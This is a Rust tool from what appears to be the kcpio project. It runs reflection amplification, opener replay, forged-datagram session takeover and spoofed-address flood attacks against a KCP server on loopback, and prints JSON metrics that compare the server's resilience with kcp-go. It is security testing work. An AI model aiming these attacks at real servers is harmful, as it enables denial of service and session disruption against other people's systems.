//! The hostile-peer attacks of the Security section, as a tool to run
//! against any KCP server on loopback (a kcpio or a kcp-go echo server,
//! `examples/peer.rs` or `interop/kcpgo-peer`), so both are measured the
//! same way (`scripts/hostile-vs-kcpgo.sh` runs them side by side).
//!
//! ```text
//! attack reflect  ADDR CRYPT PRESET SECS   one 1,400-byte request from a silent address
//! attack replay   ADDR CRYPT N             one captured opener replayed from N addresses
//! attack takeover ADDR                     forged datagrams from a live session's address (null crypto)
//! attack flood    ADDR CRYPT SECS          forged openers from fresh addresses; a real client connects meanwhile
//! ```
//!
//! Each prints one JSON line. The key is the peers' default passphrase.
//! Loopback only.

#[path = "../tests/support/spoof.rs"]
mod spoof;

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use kcpio::arq::segment::{Command, Header, Segments};
use kcpio::{Config, Conn, KcpStream, Key, Method, Preset};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;
use tokio::time::{Instant, timeout, timeout_at};

const KEY: &str = "it's a secrect";

fn config(crypt: &str, preset: Preset) -> Config {
    let method = Method::from_name(crypt).expect("a kcptun cipher name");
    Config::builder()
        .crypto(method, Key::passphrase(KEY))
        .preset(preset)
        .build()
        .expect("a valid configuration")
}

/// The first datagram a client with `config` sends after writing `data`,
/// sealed with a fresh nonce.
fn opener(config: &Config, conv: u32, data: &[u8], nonce: u64) -> Vec<u8> {
    let mut c = Conn::new(conv, config).expect("a session");
    c.write(data).expect("room for the request");
    c.handle_timeout(Duration::ZERO);
    let mut slot = vec![0u8; c.max_datagram()];
    let t = c
        .poll_transmit(Duration::ZERO, &mut slot)
        .expect("a datagram");
    let crypto = config.packet_crypto();
    let mut n16 = [0u8; 16];
    n16[..8].copy_from_slice(&nonce.to_le_bytes());
    n16[8..].copy_from_slice(&(!nonce).to_le_bytes());
    let n = crypto
        .seal(&mut slot, t.len, &n16[..crypto.nonce_len()])
        .expect("sealed");
    slot.truncate(n);
    slot
}

/// Bytes received on `sock` until `end`.
async fn drain(sock: &UdpSocket, end: Instant) -> usize {
    let mut buf = [0u8; 2048];
    let mut got = 0;
    while let Ok(Ok(n)) = timeout_at(end, sock.recv(&mut buf)).await {
        got += n;
    }
    got
}

async fn reflect(addr: SocketAddr, crypt: &str, preset: &str, secs: u64) {
    let p = Preset::from_name(preset).expect("a preset name");
    let request = opener(&config(crypt, p), 0x5eed_0001, &[0x5a; 1400], 1);
    let sock = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    sock.send_to(&request, addr).await.expect("send");
    let got = drain(&sock, Instant::now() + Duration::from_secs(secs)).await;
    println!(
        "{{\"attack\":\"reflect\",\"preset\":\"{preset}\",\"crypt\":\"{crypt}\",\"sent\":{},\"received\":{got},\"ratio\":{:.2}}}",
        request.len(),
        got as f64 / request.len() as f64
    );
}

async fn replay(addr: SocketAddr, crypt: &str, n: usize) {
    let captured = opener(&config(crypt, Preset::Default), 0x5eed_0002, b"hello", 2);
    let first = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    first.send_to(&captured, addr).await.expect("send");
    let mut socks = Vec::new();
    for _ in 0..n {
        let s = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
        s.send_to(&captured, addr).await.expect("send");
        socks.push(s);
    }
    let end = Instant::now() + Duration::from_secs(1);
    let (mut answered, mut bytes) = (0, 0);
    for s in &socks {
        let got = drain(s, end).await;
        if got > 0 {
            answered += 1;
            bytes += got;
        }
    }
    println!(
        "{{\"attack\":\"replay\",\"crypt\":\"{crypt}\",\"replays\":{n},\"answered\":{answered},\"bytes_to_replayers\":{bytes}}}"
    );
}

fn push(conv: u32, sn: u32, una: u32, payload: &[u8]) -> Vec<u8> {
    let h = Header {
        conv,
        cmd: Command::Push as u8,
        wnd: 128,
        sn,
        una,
        len: payload.len() as u32,
        ..Header::default()
    };
    let mut out = vec![0u8; 24 + payload.len()];
    h.encode_at(&mut out, 0, payload).expect("fits");
    out
}

/// Echoed payload bytes of `conv` within `wait`, each segment acknowledged.
async fn echoed(sock: &UdpSocket, conv: u32, wait: Duration) -> Vec<u8> {
    let mut buf = [0u8; 2048];
    let mut got = std::collections::BTreeMap::new();
    let end = Instant::now() + wait;
    while let Ok(Ok(n)) = timeout_at(end, sock.recv(&mut buf)).await {
        for seg in Segments::new(&buf[..n]).flatten() {
            if seg.conv() != conv || seg.command() != Some(Command::Push) {
                continue;
            }
            got.insert(seg.sn(), seg.payload().to_vec());
            let una = (0u32..).take_while(|k| got.contains_key(k)).count() as u32;
            let ack = spoof::raw_ack(conv, seg.ts(), seg.sn(), una);
            let _ = sock.send(&ack).await;
        }
    }
    got.values().flatten().copied().collect()
}

async fn takeover(addr: SocketAddr) {
    const CONV: u32 = 0x5eed_0003;
    let sock = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    sock.connect(addr).await.expect("connect");
    sock.send(&push(CONV, 0, 0, b"live")).await.expect("send");
    let before = echoed(&sock, CONV, Duration::from_millis(500)).await;
    // The forgeries: a 24-byte non-KCP datagram of another conv at sn 0,
    // and a PUSH of another conv at sn 0 from inside a conversation.
    let mut junk = push(0x7777, 0, 0, b"");
    junk[4] = 0xee;
    sock.send(&junk).await.expect("send");
    sock.send(&push(0x7778, 0, 3, b"x")).await.expect("send");
    tokio::time::sleep(Duration::from_millis(100)).await;
    sock.send(&push(CONV, 1, 0, b" still here"))
        .await
        .expect("send");
    let after = echoed(&sock, CONV, Duration::from_millis(1000)).await;
    println!(
        "{{\"attack\":\"takeover\",\"echo_before\":{},\"survived\":{}}}",
        before == b"live",
        after.ends_with(b" still here")
    );
}

async fn flood(addr: SocketAddr, crypt: &str, secs: u64) {
    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicU64::new(0));
    let cfg = config(crypt, Preset::Default);
    let thread = {
        let (stop, sent, cfg) = (stop.clone(), sent.clone(), cfg.clone());
        std::thread::spawn(move || {
            spoof::flood_from_many(addr, &stop, &sent, Duration::from_secs(120), |i| {
                opener(&cfg, 0x4000_0000 | i, b"flood", u64::from(i))
            })
        })
    };
    tokio::time::sleep(Duration::from_secs(secs)).await;
    let started = Instant::now();
    let client = timeout(Duration::from_secs(20), async {
        let mut s = KcpStream::connect(addr, &cfg).await?;
        s.write_all(b"real client").await?;
        let mut back = [0u8; 11];
        s.read_exact(&mut back).await?;
        Ok::<_, std::io::Error>(back == *b"real client")
    })
    .await;
    let took = started.elapsed();
    stop.store(true, Ordering::Relaxed);
    let _ = thread.join();
    let ok = matches!(client, Ok(Ok(true)));
    println!(
        "{{\"attack\":\"flood\",\"crypt\":\"{crypt}\",\"openers\":{},\"client_ok\":{ok},\"client_ms\":{:.1}}}",
        sent.load(Ordering::Relaxed),
        took.as_secs_f64() * 1000.0
    );
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| args.get(i).map(String::as_str).unwrap_or("");
    let addr: SocketAddr = arg(1).parse().expect("ADDR as IP:PORT");
    assert!(addr.ip().is_loopback(), "loopback only");
    match arg(0) {
        "reflect" => reflect(addr, arg(2), arg(3), arg(4).parse().unwrap_or(11)).await,
        "replay" => replay(addr, arg(2), arg(3).parse().unwrap_or(20)).await,
        "takeover" => takeover(addr).await,
        "flood" => flood(addr, arg(2), arg(3).parse().unwrap_or(3)).await,
        _ => eprintln!("usage: see the header of examples/attack.rs"),
    }
}
